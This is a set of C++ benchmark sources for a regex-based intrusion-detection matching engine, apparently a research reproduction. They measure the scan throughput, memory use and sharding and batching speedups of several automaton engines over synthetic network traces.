          [](const flow::FlowKey&, std::uint64_t, std::uint32_t,
             std::uint64_t) {},
          [](const flow::Packet&) {});
      burst.clear();
    };
    const auto c0 = std::chrono::steady_clock::now();
    sweep_trace.for_each_packet([&](const flow::Packet& p) {
      burst.push_back(p);
      if (burst.size() == 16) feed();
    });
    if (!burst.empty()) feed();
    cal_seconds = std::chrono::duration<double>(
                      std::chrono::steady_clock::now() - c0)
                      .count();
  }
  const double capacity =
      cal_seconds > 0.0
          ? static_cast<double>(sweep_trace.payload_bytes()) / cal_seconds
          : 0.0;
  const double ns_per_packet =
      sweep_trace.packet_count() > 0
          ? cal_seconds * 1e9 / static_cast<double>(sweep_trace.packet_count())
          : 0.0;
  if (capacity > 0.0) {
    std::printf("sweep trace: %.2f MB in %zu packets of %.0f KiB; L0 capacity "
                "%.1f MB/s (%.0f ns/packet); controller SLO = 64 packets of "
                "queueing\n",
                static_cast<double>(sweep_trace.payload_bytes()) / (1024 * 1024),
                sweep_trace.packet_count(),
                static_cast<double>(sweep_trace.payload_bytes()) /
                    static_cast<double>(sweep_trace.packet_count()) / 1024.0,
                capacity / (1024 * 1024), ns_per_packet);
    const double min_seconds = args.smoke ? 0.25 : 1.0;
    std::vector<double> ratios = {0.5, 1.0, 2.0, 4.0};
    if (args.smoke) ratios = {0.5, 2.0};
    util::TextTable sweep({"offered/capacity", "offered MB/s", "realized MB/s",
                           "e2e p99 ms", "shed ratio", "settled level",
                           "transitions"});
    for (const double ratio : ratios) {
      const SweepRow row = run_paced(*engine, sweep_trace, ratio, capacity,
                                     ns_per_packet, min_seconds);
      sweep.add_row({util::format_double(row.ratio, 1),
                     util::format_double(row.offered_mbps, 1),
                     util::format_double(row.realized_mbps, 1),
                     util::format_double(static_cast<double>(row.p99_ns) / 1e6, 2),
                     util::format_double(row.shed_ratio, 3),
                     std::to_string(row.level), std::to_string(row.transitions)});
    }
    bench::print_table(sweep, args.csv);
  }

  if (!args.json_path.empty()) {
    // Instrumented L0 pass for the report's telemetry block (kept out of the
    // timed runs; bench_compare gates its scan-latency p99).
    obs::MetricsRegistry registry(1);
    (void)run_pinned(*engine, t, 0, 1, &registry);
    report.set_telemetry(registry.snapshot());
  }
  std::printf("Reading: each rung trades recall for cost — L1 keeps every\n"
              "prefilter-positive chunk plus 1-in-8 flows exact, L2 only counts\n"
              "detections, L3 only counts packets. Under the sweep the ladder\n"
              "must sit at L0 below capacity and settle on the cheapest rung\n"
              "that holds the SLO above it, with p99 bounded by the queue cap.\n");
  bench::write_report(args, report);
  return 0;
}
