// Microbenchmarks (google-benchmark): engine inner loops, filter-engine
// action cost, subset construction, splitter, and the action-ordering
// ablation called out in DESIGN.md Sec. 6.
#include <benchmark/benchmark.h>

#include "eval/harness.h"
#include "regex/sample.h"

namespace {

using namespace mfa;

std::vector<nfa::PatternInput> mid_patterns() {
  return patterns::set_by_name("C8").patterns;
}

std::string payload_for(const dfa::Dfa& d, double pm, std::size_t bytes) {
  const trace::Trace t = trace::make_synthetic(d, pm, bytes, 99);
  std::string out;
  t.for_each_packet([&](const flow::Packet& p) {
    out.append(reinterpret_cast<const char*>(p.payload), p.length);
  });
  return out;
}

struct Fixture {
  Fixture() {
    const auto pats = mid_patterns();
    nfa_engine = nfa::build_nfa(pats);
    dfa_engine = *dfa::build_dfa(nfa_engine);
    mfa_engine = *core::build_mfa(pats);
    hfa_engine = *hfa::build_hfa(pats);
    xfa_engine = *xfa::build_xfa(pats);
    quiet = payload_for(dfa_engine, 0.0, 1 << 20);
    noisy = payload_for(dfa_engine, 0.9, 1 << 20);
  }
  nfa::Nfa nfa_engine;
  dfa::Dfa dfa_engine;
  core::Mfa mfa_engine;
  hfa::Hfa hfa_engine;
  xfa::Xfa xfa_engine;
  std::string quiet, noisy;
};

Fixture& fixture() {
  static Fixture f;
  return f;
}

template <typename ScannerT, typename EngineT>
void scan_loop(benchmark::State& state, const EngineT& engine, const std::string& data) {
  ScannerT scanner(engine);
  CountingSink sink;
  for (auto _ : state) {
    scanner.reset();
    scanner.feed(reinterpret_cast<const std::uint8_t*>(data.data()), data.size(), 0, sink);
    benchmark::DoNotOptimize(sink.count);
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations() * data.size()));
}

void BM_DfaScanQuiet(benchmark::State& s) {
  scan_loop<dfa::DfaScanner>(s, fixture().dfa_engine, fixture().quiet);
}
void BM_DfaScanNoisy(benchmark::State& s) {
  scan_loop<dfa::DfaScanner>(s, fixture().dfa_engine, fixture().noisy);
}
void BM_MfaScanQuiet(benchmark::State& s) {
  scan_loop<core::MfaScanner>(s, fixture().mfa_engine, fixture().quiet);
}
void BM_MfaScanNoisy(benchmark::State& s) {
  scan_loop<core::MfaScanner>(s, fixture().mfa_engine, fixture().noisy);
}
void BM_HfaScanQuiet(benchmark::State& s) {
  scan_loop<hfa::HfaScanner>(s, fixture().hfa_engine, fixture().quiet);
}
void BM_XfaScanQuiet(benchmark::State& s) {
  scan_loop<xfa::XfaScanner>(s, fixture().xfa_engine, fixture().quiet);
}
void BM_NfaScanQuiet(benchmark::State& s) {
  // NFA is orders of magnitude slower; use a slice to keep iterations sane.
  scan_loop<nfa::NfaScanner>(s, fixture().nfa_engine, fixture().quiet.substr(0, 64 << 10));
}

BENCHMARK(BM_DfaScanQuiet);
BENCHMARK(BM_DfaScanNoisy);
BENCHMARK(BM_MfaScanQuiet);
BENCHMARK(BM_MfaScanNoisy);
BENCHMARK(BM_HfaScanQuiet);
BENCHMARK(BM_XfaScanQuiet);
BENCHMARK(BM_NfaScanQuiet);

void BM_FilterEngineAction(benchmark::State& state) {
  filter::Program program;
  program.memory_bits = 2;
  program.actions.push_back(filter::Action{filter::kNone, 0, filter::kNone, filter::kNone});
  program.actions.push_back(filter::Action{0, 1, filter::kNone, filter::kNone});
  program.actions.push_back(filter::Action{1, filter::kNone, filter::kNone, 1});
  filter::Engine engine(program);
  filter::Memory memory;
  CountingSink sink;
  std::uint32_t i = 0;
  for (auto _ : state) {
    engine.on_match(i % 3, i, memory, sink);
    ++i;
    benchmark::DoNotOptimize(sink.count);
  }
}
BENCHMARK(BM_FilterEngineAction);

void BM_SubsetConstructionC8(benchmark::State& state) {
  const auto pats = mid_patterns();
  const nfa::Nfa n = nfa::build_nfa(pats);
  for (auto _ : state) {
    auto d = dfa::build_dfa(n);
    benchmark::DoNotOptimize(d->state_count());
  }
}
BENCHMARK(BM_SubsetConstructionC8);

void BM_RegexSplitC8(benchmark::State& state) {
  const auto pats = mid_patterns();
  for (auto _ : state) {
    auto r = split::split_patterns(pats);
    benchmark::DoNotOptimize(r.pieces.size());
  }
}
BENCHMARK(BM_RegexSplitC8);

void BM_MfaFullBuildC8(benchmark::State& state) {
  const auto pats = mid_patterns();
  for (auto _ : state) {
    auto m = core::build_mfa(pats);
    benchmark::DoNotOptimize(m->memory_image_bytes());
  }
}
BENCHMARK(BM_MfaFullBuildC8);

// Ablation (DESIGN.md Sec. 6): disabling decomposition families shows what
// each contributes to the piece-DFA size.
void BM_AblationNoAlmostDotStar(benchmark::State& state) {
  auto pats = mid_patterns();
  core::BuildOptions opts;
  opts.split.enable_almost_dot_star = false;
  for (auto _ : state) {
    auto m = core::build_mfa(pats, opts);
    benchmark::DoNotOptimize(m.has_value());
    if (m) state.counters["dfa_states"] = m->character_dfa().state_count();
  }
}
BENCHMARK(BM_AblationNoAlmostDotStar);

void BM_AblationFullSplit(benchmark::State& state) {
  auto pats = mid_patterns();
  for (auto _ : state) {
    auto m = core::build_mfa(pats);
    benchmark::DoNotOptimize(m.has_value());
    if (m) state.counters["dfa_states"] = m->character_dfa().state_count();
  }
}
BENCHMARK(BM_AblationFullSplit);

}  // namespace

BENCHMARK_MAIN();
