// Ablation bench: what each decomposition family contributes (DESIGN.md
// Sec. 6), plus the MFA-vs-table-compression comparison. For each set and
// each splitter variant, print the piece-DFA size, filter geometry, image
// size, and scan throughput on a fixed trace; the final block compares the
// dense/minimized/root-default DFA storage layouts.
#include "bench_common.h"
#include "dfa/compact.h"

int main(int argc, char** argv) {
  using namespace mfa;
  const bench::Args args = bench::Args::parse(argc, argv);

  struct Variant {
    const char* name;
    split::Options split;
    bool minimize = false;
  };
  std::vector<Variant> variants;
  variants.push_back({"full", {}, false});
  variants.push_back({"full+minimize", {}, true});
  {
    Variant v{"no-dot-star", {}, false};
    v.split.enable_dot_star = false;
    variants.push_back(v);
  }
  {
    Variant v{"no-almost-dot-star", {}, false};
    v.split.enable_almost_dot_star = false;
    variants.push_back(v);
  }
  {
    Variant v{"no-gap", {}, false};
    v.split.enable_gap = false;
    variants.push_back(v);
  }
  {
    Variant v{"no-decomposition", {}, false};
    v.split.enable_dot_star = false;
    v.split.enable_almost_dot_star = false;
    v.split.enable_gap = false;
    variants.push_back(v);
  }

  for (const char* set_name : {"C8", "C10", "S24"}) {
    const patterns::PatternSet set = patterns::set_by_name(set_name);
    const auto exemplars = eval::attack_exemplars(set, 2, 999);
    const trace::Trace t = trace::make_real_life(trace::RealLifeProfile::kCyberDefense,
                                                 args.trace_bytes, 999, exemplars);
    std::printf("=== %s: splitter ablations ===\n", set_name);
    util::TextTable table({"Variant", "pieces", "bits", "DFA Qs", "image MB", "CpB",
                           "matches"});
    for (const auto& variant : variants) {
      core::BuildOptions opts;
      opts.split = variant.split;
      opts.dfa.minimize = variant.minimize;
      opts.dfa.max_states = args.dfa_cap;
      core::BuildStats stats;
      auto m = core::build_mfa(set.patterns, opts, &stats);
      if (!m) {
        table.add_row({variant.name, "-", "-", "-", "-", "-", "-"});
        continue;
      }
      const auto tp = eval::measure_throughput(*m, t, args.reps);
      table.add_row({variant.name, std::to_string(m->pieces().size()),
                     std::to_string(m->program().memory_bits),
                     std::to_string(m->character_dfa().state_count()),
                     util::format_bytes_mb(m->memory_image_bytes(), 3),
                     util::format_double(tp.cycles_per_byte, 1),
                     std::to_string(tp.matches)});
    }
    bench::print_table(table, args.csv);
  }

  // Storage-layout comparison on the plain DFA baseline: dense vs
  // root-default compressed (the Sec. II related-work direction).
  std::printf("=== DFA storage layouts (baseline automaton) ===\n");
  util::TextTable table({"Set", "dense MB", "compact MB", "ratio", "dense CpB",
                         "compact CpB"});
  for (const char* set_name : {"C8", "C10", "S24"}) {
    const patterns::PatternSet set = patterns::set_by_name(set_name);
    const nfa::Nfa n = nfa::build_nfa(set.patterns);
    dfa::BuildOptions d_opts;
    d_opts.max_states = args.dfa_cap;
    auto d = dfa::build_dfa(n, d_opts);
    if (!d) {
      table.add_row({set_name, "-", "-", "-", "-", "-"});
      continue;
    }
    const dfa::CompactDfa compact(*d);
    const auto exemplars = eval::attack_exemplars(set, 2, 999);
    const trace::Trace t = trace::make_real_life(trace::RealLifeProfile::kCyberDefense,
                                                 args.trace_bytes, 999, exemplars);
    const auto dense_tp = eval::measure_throughput(*d, t, args.reps);
    const auto compact_tp = eval::measure_throughput(compact, t, args.reps);
    table.add_row({set_name, util::format_bytes_mb(d->memory_image_bytes(false), 2),
                   util::format_bytes_mb(compact.memory_image_bytes(), 2),
                   util::format_double(compact.compression_vs_dense(*d), 3),
                   util::format_double(dense_tp.cycles_per_byte, 1),
                   util::format_double(compact_tp.cycles_per_byte, 1)});
  }
  bench::print_table(table, args.csv);
  std::printf("Reading: decomposition families remove DFA states (rows 1 vs 6);\n"
              "root-default compression removes transitions but pays per-byte\n"
              "lookup cost — the opposite tradeoff to MFA.\n");
  return 0;
}
