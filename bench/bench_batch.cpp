// K-way interleaved scan sweep (ROADMAP: batch the hot path).
//
// The per-byte DFA step is a dependent-load chain: each transition load
// must retire before the next can issue, so a single flow leaves the
// memory system idle most of the time. feed_many advances K independent
// flow contexts in lockstep, giving the core K independent transition
// loads per iteration to overlap (memory-level parallelism). This bench
// sweeps K in {1, 2, 4, 8, 16} for every table-driven engine (dense DFA,
// compact DFA, MFA) over a multiplexed many-flow trace, delivered through
// FlowInspector::packet_batch in 64-packet bursts — the same path the
// sharded pipeline's workers use. K=1 degenerates to the sequential feed
// loop and is the baseline; the single-packet packet() path is also shown
// for reference.
//
// --smoke shrinks the run for per-push CI; --json FILE writes the
// mfa.bench.v1 schema with K recorded in the row's `shards` field
// (engine rows are distinguished by name; shards=0 is the single-packet
// reference row).
#include "bench_common.h"
#include "dfa/compact.h"

namespace {

/// --assert-compact-batched-pct violations (batched compact DFA slower than
/// its own sequential loop beyond the tolerance). Non-zero fails the run.
int g_compact_violations = 0;

template <typename EngineT>
void sweep_engine(const char* engine_name, const EngineT& engine,
                  const mfa::trace::Trace& t, const mfa::bench::Args& args,
                  mfa::obs::BenchReport& report, mfa::util::TextTable& table,
                  const std::string& set_name) {
  using namespace mfa;
  const eval::Throughput single = eval::measure_throughput(engine, t, args.reps);
  report.add(set_name, "multiplexed", engine_name, single.cycles_per_byte,
             single.matches, /*shards=*/0);
  double k1_cpb = 0.0;
  for (const std::size_t lanes : {1u, 2u, 4u, 8u, 16u}) {
    const eval::Throughput tp =
        eval::measure_batched_throughput(engine, t, lanes, /*burst=*/64, args.reps);
    if (lanes == 1) k1_cpb = tp.cycles_per_byte;
    table.add_row({set_name, engine_name, std::to_string(lanes),
                   util::format_double(tp.cycles_per_byte, 1),
                   util::format_double(
                       tp.cycles_per_byte > 0 ? k1_cpb / tp.cycles_per_byte : 0.0, 2),
                   std::to_string(tp.matches),
                   util::format_double(single.cycles_per_byte, 1)});
    report.add(set_name, "multiplexed", engine_name, tp.cycles_per_byte, tp.matches,
               /*shards=*/lanes);
    if (tp.matches != single.matches)
      std::fprintf(stderr, "WARNING: %s K=%zu matches %llu != single-packet %llu\n",
                   engine_name, lanes, static_cast<unsigned long long>(tp.matches),
                   static_cast<unsigned long long>(single.matches));
    // The compact DFA clamps feed_many to lanes=1, so batched delivery must
    // cost the same as the sequential loop (plus burst-assembly noise the
    // tolerance absorbs). A real gap here means the clamp regressed.
    if (args.assert_compact_batched_pct >= 0 && lanes > 1 &&
        std::string(engine_name) == dfa::CompactDfa::kEngineName && k1_cpb > 0) {
      const double limit = k1_cpb * (1.0 + args.assert_compact_batched_pct / 100.0);
      if (tp.cycles_per_byte > limit) {
        std::fprintf(stderr,
                     "ASSERT FAIL: %s/%s K=%zu CpB %.2f exceeds K=1 CpB %.2f "
                     "by more than %.0f%%\n",
                     set_name.c_str(), engine_name, lanes, tp.cycles_per_byte,
                     k1_cpb, args.assert_compact_batched_pct);
        ++g_compact_violations;
      }
    }
  }
}

}  // namespace

int main(int argc, char** argv) {
  using namespace mfa;
  const bench::Args args = bench::Args::parse(argc, argv);

  obs::BenchReport report("batch");
  std::vector<const char*> set_names = {"C8", "S24"};
  if (args.smoke) set_names = {"C8"};

  util::TextTable table(
      {"Set", "engine", "K", "CpB", "speedup vs K=1", "matches", "single-pkt CpB"});
  for (const char* set_name : set_names) {
    const patterns::PatternSet set = patterns::set_by_name(set_name);
    const auto exemplars = eval::attack_exemplars(set, 2, 707);
    // Many concurrent flows (the real-life profiles multiplex hundreds) so
    // every burst carries enough distinct flows to fill the lanes.
    trace::Trace t = trace::make_real_life(trace::RealLifeProfile::kCyberDefense,
                                           args.trace_bytes, 707, exemplars);
    // --flows N: replicate with re-keyed flows to pressure the flow tables.
    if (args.flows != 0) t = bench::with_flow_count(t, args.flows);
    std::printf("=== %s: %zu patterns, trace %.2f MB ===\n", set.name.c_str(),
                set.patterns.size(),
                static_cast<double>(t.payload_bytes()) / (1024 * 1024));

    auto m = core::build_mfa(set.patterns);
    if (!m) {
      std::fprintf(stderr, "%s: MFA construction failed\n", set_name);
      continue;
    }
    sweep_engine(core::Mfa::kEngineName, *m, t, args, report, table, set.name);

    const nfa::Nfa n = nfa::build_nfa(set.patterns);
    dfa::BuildOptions d_opts;
    d_opts.max_states = args.dfa_cap;
    if (const auto d = dfa::build_dfa(n, d_opts)) {
      sweep_engine(dfa::Dfa::kEngineName, *d, t, args, report, table, set.name);
      const dfa::CompactDfa compact(*d);
      sweep_engine(dfa::CompactDfa::kEngineName, compact, t, args, report, table,
                   set.name);
    } else {
      std::printf("%s: DFA baseline exceeded %u states, skipping dense/compact rows\n",
                  set_name, d_opts.max_states);
    }
  }
  bench::print_table(table, args.csv);
  std::printf("Reading: K=1 is the sequential feed loop; the climb to K=8 is\n"
              "pure memory-level parallelism (same instructions, overlapped\n"
              "transition loads). Gains flatten once lanes exceed the load\n"
              "buffer / MSHR budget or the table fits in L1. The compact DFA\n"
              "typically *loses* from interleaving: its per-byte cost is a\n"
              "branchy exception scan over cache-resident rows, so there is\n"
              "little load latency to hide and K lanes just thrash the branch\n"
              "predictor — use K=1 (or the dense table) there. Matches must be\n"
              "identical down the column — batching is a schedule, not a\n"
              "semantic change.\n");
  bench::write_report(args, report);
  if (g_compact_violations != 0) {
    std::fprintf(stderr, "%d compact-batched assertion failure(s)\n",
                 g_compact_violations);
    return 1;
  }
  return 0;
}
