// Shared plumbing for the per-table/figure bench binaries.
//
// Each binary regenerates one piece of the paper's evaluation (Sec. V) and
// prints measured values next to the paper's reported ones where the paper
// gives concrete numbers. Absolute values differ (synthetic analog pattern
// sets, C++ vs OCaml, different CPU); the shapes are the reproduction
// target — see EXPERIMENTS.md.
#pragma once

#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <unordered_set>
#include <utility>
#include <vector>

#include "eval/harness.h"
#include "obs/export.h"
#include "util/table.h"

namespace mfa::bench {

/// Command-line knobs shared by the bench binaries.
struct Args {
  std::size_t trace_bytes = 2 << 20;  ///< per-trace payload size
  /// DFA baseline state cap: 250k states is a ~256 MB dense table, the
  /// boundary of "practical" the paper's B217p result illustrates.
  std::uint32_t dfa_cap = 250000;
  int reps = 2;                       ///< throughput repetitions (first warms)
  bool csv = false;                   ///< also print CSV blocks
  bool smoke = false;                 ///< CI smoke mode: tiny trace, 1 rep
  std::string json_path;              ///< write an obs::BenchReport here
  /// Concurrent-flow count for flow-table benches (0 = binary default).
  /// bench_pipeline/bench_batch spread the trace across this many flows;
  /// bench_flows sizes its flow sweep with it.
  std::size_t flows = 0;
  /// bench_flows only: exit non-zero if the tiered inspector's measured
  /// bytes/flow exceeds this ceiling (0 = no assertion). CI regression gate.
  std::size_t assert_bytes_per_flow = 0;
  /// bench_batch only: exit non-zero if the compact DFA's batched CpB at any
  /// K exceeds its K=1 sequential CpB by more than this percentage
  /// (negative = no assertion). Guards the lanes=1 clamp in
  /// CompactDfa::feed_many — batching must never make the compact engine
  /// slower than the sequential loop it degenerates to.
  double assert_compact_batched_pct = -1.0;
  /// bench_simd only: exit non-zero if the prefilter-gated scan's CpB on
  /// dirty traffic (every chunk carries a literal, so nothing is skipped)
  /// exceeds the ungated scan's by more than this percentage (negative = no
  /// assertion). Bounds the gate's overhead when it never fires.
  double assert_overhead_pct = -1.0;
  /// bench_ruleset only: single rule-count rung override (0 = default
  /// ladder 1k/5k/10k, or a reduced ladder under --smoke).
  std::size_t rules = 0;
  /// bench_ruleset only: exit non-zero unless the delta table is at least
  /// this many times smaller than the dense piece table at the largest
  /// rung (0 = no assertion).
  double assert_delta_ratio = 0.0;
  /// bench_ruleset only: exit non-zero if the delta-mode MFA's CpB exceeds
  /// the dense-mode MFA's by more than this percentage (negative = no
  /// assertion). Bounds the cost of walking default chains.
  double assert_delta_cpb_pct = -1.0;
  /// bench_ruleset only: exit non-zero unless parallel subset construction
  /// beats the 1-thread build by at least this factor on the DFA phase at
  /// the largest rung (0 = no assertion).
  double assert_parallel_speedup = 0.0;
  /// bench_ruleset only: exit non-zero if compiling the largest rung (dense,
  /// 1 thread) takes longer than this many seconds (0 = no assertion).
  double assert_compile_seconds = 0.0;

  static Args parse(int argc, char** argv) {
    Args args;
    for (int i = 1; i < argc; ++i) {
      const std::string a = argv[i];
      const auto next = [&]() -> const char* {
        if (i + 1 >= argc) {
          std::fprintf(stderr, "missing value for %s\n", a.c_str());
          std::exit(2);
        }
        return argv[++i];
      };
      if (a == "--bytes") args.trace_bytes = std::strtoull(next(), nullptr, 10);
      else if (a == "--dfa-cap") args.dfa_cap = static_cast<std::uint32_t>(
          std::strtoull(next(), nullptr, 10));
      else if (a == "--reps") args.reps = std::atoi(next());
      else if (a == "--csv") args.csv = true;
      else if (a == "--smoke") {
        // CI-friendly: small enough to run on every push; later flags may
        // still override bytes/reps.
        args.smoke = true;
        args.trace_bytes = 256 * 1024;
        args.reps = 1;
      } else if (a == "--json") args.json_path = next();
      else if (a == "--flows") args.flows = std::strtoull(next(), nullptr, 10);
      else if (a == "--assert-bytes-per-flow")
        args.assert_bytes_per_flow = std::strtoull(next(), nullptr, 10);
      else if (a == "--assert-compact-batched-pct")
        args.assert_compact_batched_pct = std::strtod(next(), nullptr);
      else if (a == "--assert-overhead-pct")
        args.assert_overhead_pct = std::strtod(next(), nullptr);
      else if (a == "--rules") args.rules = std::strtoull(next(), nullptr, 10);
      else if (a == "--assert-delta-ratio")
        args.assert_delta_ratio = std::strtod(next(), nullptr);
      else if (a == "--assert-delta-cpb-pct")
        args.assert_delta_cpb_pct = std::strtod(next(), nullptr);
      else if (a == "--assert-parallel-speedup")
        args.assert_parallel_speedup = std::strtod(next(), nullptr);
      else if (a == "--assert-compile-seconds")
        args.assert_compile_seconds = std::strtod(next(), nullptr);
      else if (a == "--help") {
        std::printf("options: --bytes N  --dfa-cap N  --reps N  --csv  --smoke"
                    "  --json FILE  --flows N  --assert-bytes-per-flow N"
                    "  --assert-compact-batched-pct P  --assert-overhead-pct P"
                    "  --rules N  --assert-delta-ratio R  --assert-delta-cpb-pct P"
                    "  --assert-parallel-speedup R  --assert-compile-seconds S\n");
        std::exit(0);
      } else {
        std::fprintf(stderr, "unknown option %s\n", a.c_str());
        std::exit(2);
      }
    }
    return args;
  }
};

/// Write the accumulated report when --json was given (mfa.bench.v1 — the
/// schema the BENCH_*.json perf trajectory accumulates).
inline void write_report(const Args& args, const obs::BenchReport& report) {
  if (args.json_path.empty()) return;
  if (report.write_file(args.json_path))
    std::printf("wrote %s\n", args.json_path.c_str());
  else
    std::fprintf(stderr, "failed to write %s\n", args.json_path.c_str());
}

/// Visit every successfully built engine of a Suite as (label, engine).
/// Labels are the engines' kEngineName constants; visit order is the
/// fixed column order of the paper's figures (DFA NFA HFA XFA MFA).
template <typename Fn>
void for_each_engine(const eval::Suite& suite, Fn&& fn) {
  if (suite.dfa) fn(dfa::Dfa::kEngineName, *suite.dfa);
  fn(nfa::Nfa::kEngineName, suite.nfa);
  if (suite.hfa) fn(hfa::Hfa::kEngineName, *suite.hfa);
  if (suite.xfa) fn(xfa::Xfa::kEngineName, *suite.xfa);
  if (suite.mfa) fn(core::Mfa::kEngineName, *suite.mfa);
}

/// Engine labels in figure column order, with the table-header spellings.
inline const std::vector<std::pair<const char*, const char*>>& engine_columns() {
  static const std::vector<std::pair<const char*, const char*>> cols = {
      {"dfa", "DFA"}, {"nfa", "NFA"}, {"hfa", "HFA"}, {"xfa", "XFA"}, {"mfa", "MFA"}};
  return cols;
}

inline eval::SuiteOptions suite_options(const Args& args) {
  eval::SuiteOptions opts;
  opts.dfa_max_states = args.dfa_cap;
  opts.mfa_max_states = args.dfa_cap;
  return opts;
}

/// "-" when a build failed (the paper's B217p DFA cell).
inline std::string cell_or_dash(bool ok, const std::string& value) {
  return ok ? value : "-";
}

/// The three real-life trace families of Sec. V-A, scaled to `bytes`.
struct NamedTrace {
  std::string name;
  trace::Trace trace;
};

inline std::vector<NamedTrace> real_life_traces(std::size_t bytes,
                                                const std::vector<std::string>& exemplars) {
  std::vector<NamedTrace> out;
  // DARPA week-5 Monday/Wednesday/Thursday analogs.
  out.push_back({"LL1", trace::make_real_life(trace::RealLifeProfile::kDarpa, bytes, 101,
                                              exemplars)});
  out.push_back({"LL2", trace::make_real_life(trace::RealLifeProfile::kDarpa, bytes, 102,
                                              exemplars)});
  out.push_back({"LL3", trace::make_real_life(trace::RealLifeProfile::kDarpa, bytes, 103,
                                              exemplars)});
  // CDX competition traces.
  out.push_back({"C110", trace::make_real_life(trace::RealLifeProfile::kCyberDefense,
                                               bytes, 110, exemplars)});
  // C112 is the paper's outlier: a trace whose content floods the filter
  // with match events (MFA alone degrades there, Sec. V-D).
  out.push_back({"C112", trace::make_real_life(trace::RealLifeProfile::kCyberDefenseNoisy,
                                               bytes, 112, exemplars)});
  // Nitroba.
  out.push_back({"N", trace::make_real_life(trace::RealLifeProfile::kNitroba, bytes, 120,
                                            exemplars)});
  return out;
}

/// Scale a trace to roughly `flows` distinct flows by replicating the
/// capture with re-keyed flow ids (dst_ip offset per replica). Payload
/// bytes replicate too (Trace owns its arena), so CpB stays comparable
/// while flow-table pressure — table size, eviction churn, cache misses on
/// per-flow state — scales with the knob. Returns the input unchanged when
/// it already carries at least `flows` flows.
inline trace::Trace with_flow_count(const trace::Trace& t, std::size_t flows) {
  std::unordered_set<flow::FlowKey, flow::FlowKeyHash> keys;
  t.for_each_packet([&](const flow::Packet& p) { keys.insert(p.key); });
  const std::size_t base = keys.empty() ? 1 : keys.size();
  if (base >= flows) return t;
  const std::size_t reps = (flows + base - 1) / base;
  trace::Trace out(t.name() + "+flows");
  for (std::size_t r = 0; r < reps; ++r) {
    t.for_each_packet([&](const flow::Packet& p) {
      flow::FlowKey key = p.key;
      key.dst_ip += static_cast<std::uint32_t>(r);  // distinct flow per replica
      out.add_packet(key, p.seq, p.payload, p.length);
    });
  }
  return out;
}

inline void print_table(const util::TextTable& table, bool csv) {
  std::fputs(table.to_string().c_str(), stdout);
  if (csv) {
    std::fputs("\nCSV:\n", stdout);
    std::fputs(table.to_csv().c_str(), stdout);
  }
  std::fputs("\n", stdout);
}

}  // namespace mfa::bench
