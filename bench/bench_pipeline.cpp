// Sharded-pipeline scaling: the same MFA engine shared by 1/2/4/8 worker
// shards, each owning a private flow table of (q, m) contexts and an SPSC
// packet queue (ROADMAP: sharding/async scaling beyond the paper's
// single-threaded evaluation).
//
// Reports wall cycles per payload byte from first submit to finish (queue
// hand-off included) and the speedup over the 1-shard run, plus the
// per-shard load split and producer backpressure (queue full-spins).
// Speedup tracks physical cores: on a 1-core host every shard count
// serializes and the table mainly demonstrates that sharding does not
// corrupt results (matches stay constant).
//
// --smoke shrinks the run for per-push CI; --json FILE writes the
// mfa.bench.v1 schema (the BENCH_*.json trajectory format) including a
// live telemetry snapshot from one instrumented pass. The timed runs stay
// uninstrumented so CpB numbers measure the disabled-telemetry hot path.
#include "bench_common.h"

int main(int argc, char** argv) {
  using namespace mfa;
  const bench::Args args = bench::Args::parse(argc, argv);

  const unsigned cores = std::thread::hardware_concurrency();
  std::printf("hardware threads: %u\n\n", cores);

  obs::BenchReport report("pipeline");
  std::vector<const char*> set_names = {"C8", "S24"};
  if (args.smoke) set_names = {"C8"};

  for (const char* set_name : set_names) {
    const patterns::PatternSet set = patterns::set_by_name(set_name);
    auto mfa = core::build_mfa(set.patterns);
    if (!mfa) {
      std::fprintf(stderr, "%s: MFA construction failed\n", set_name);
      continue;
    }
    const auto exemplars = eval::attack_exemplars(set, 2, 808);
    trace::Trace t = trace::make_real_life(trace::RealLifeProfile::kCyberDefense,
                                           args.trace_bytes, 808, exemplars);
    // --flows N: replicate with re-keyed flows to pressure the flow tables.
    if (args.flows != 0) t = bench::with_flow_count(t, args.flows);

    // Sequential (no queues, no threads) reference for the same trace.
    const eval::Throughput seq = eval::measure_throughput(*mfa, t, args.reps);
    report.add(set.name, "cyberdefense", core::Mfa::kEngineName,
               seq.cycles_per_byte, seq.matches, /*shards=*/0);

    std::printf("=== %s: %zu patterns, trace %.2f MB, sequential %.1f CpB ===\n",
                set.name.c_str(), set.patterns.size(),
                static_cast<double>(t.payload_bytes()) / (1024 * 1024),
                seq.cycles_per_byte);
    util::TextTable table({"shards", "CpB", "speedup", "matches", "flows",
                           "max shard pkts", "min shard pkts", "max q depth",
                           "q full spins"});
    double one_shard_cpb = 0.0;
    for (const std::size_t shards : {1u, 2u, 4u, 8u}) {
      const auto tp = eval::measure_pipeline_throughput(*mfa, t, shards, args.reps);
      if (shards == 1) one_shard_cpb = tp.cycles_per_byte;
      std::uint64_t max_pkts = 0, min_pkts = ~0ull, max_depth = 0, flows = 0,
                    full_spins = 0;
      for (const auto& s : tp.shards) {
        max_pkts = std::max(max_pkts, s.packets);
        min_pkts = std::min(min_pkts, s.packets);
        max_depth = std::max(max_depth, s.max_queue_depth);
        flows += s.flows;
        full_spins += s.queue_full_spins;
      }
      table.add_row({std::to_string(shards),
                     util::format_double(tp.cycles_per_byte, 1),
                     util::format_double(tp.cycles_per_byte > 0
                                             ? one_shard_cpb / tp.cycles_per_byte
                                             : 0.0,
                                         2),
                     std::to_string(tp.matches), std::to_string(flows),
                     std::to_string(max_pkts), std::to_string(min_pkts),
                     std::to_string(max_depth), std::to_string(full_spins)});
      report.add(set.name, "cyberdefense", core::Mfa::kEngineName,
                 tp.cycles_per_byte, tp.matches, shards);
      if (tp.matches != seq.matches)
        std::fprintf(stderr, "WARNING: %zu-shard matches %llu != sequential %llu\n",
                     shards, static_cast<unsigned long long>(tp.matches),
                     static_cast<unsigned long long>(seq.matches));
    }
    bench::print_table(table, args.csv);

    if (!args.json_path.empty()) {
      // One extra instrumented pass (4 shards, telemetry attached) so the
      // report carries a full registry snapshot; kept out of the timed
      // loops above so those keep measuring the disabled-telemetry path.
      obs::MetricsRegistry registry(
          {.shards = 4, .match_id_capacity = 4096, .trace_capacity = 1024});
      (void)eval::measure_pipeline_throughput(*mfa, t, 4, 1, &registry);
      report.set_telemetry(registry.snapshot());
    }
  }
  std::printf("Reading: one immutable engine serves every shard; per-flow state\n"
              "is a context of Mfa::context_bytes() bytes, so flow tables shard\n"
              "without locks. Speedup requires >= as many physical cores as\n"
